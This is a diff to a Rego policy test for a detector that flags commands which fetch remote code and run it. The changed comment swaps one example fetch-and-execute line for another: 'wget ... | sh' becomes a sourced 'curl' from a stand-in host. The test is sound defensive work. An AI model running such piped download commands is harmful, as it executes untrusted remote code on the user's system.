@@ -4,7 +4,7 @@ import data.regent.fact_test as fact
 import data.regent.lib
 import data.regent.text.fetched_then_run as room
 
-# As in: wget -O- https://example.com/x | sh
+# As in: . <(curl -s https://x.example/i)
 test_the_tagged_command_is_told if {
 	room.findings == {lib.blocked("text.fetched_then_run", "commands", 1)} with input as fact.document({"commands": [{}, {}], "tags": {"fetched_then_run": [1]}})
 }
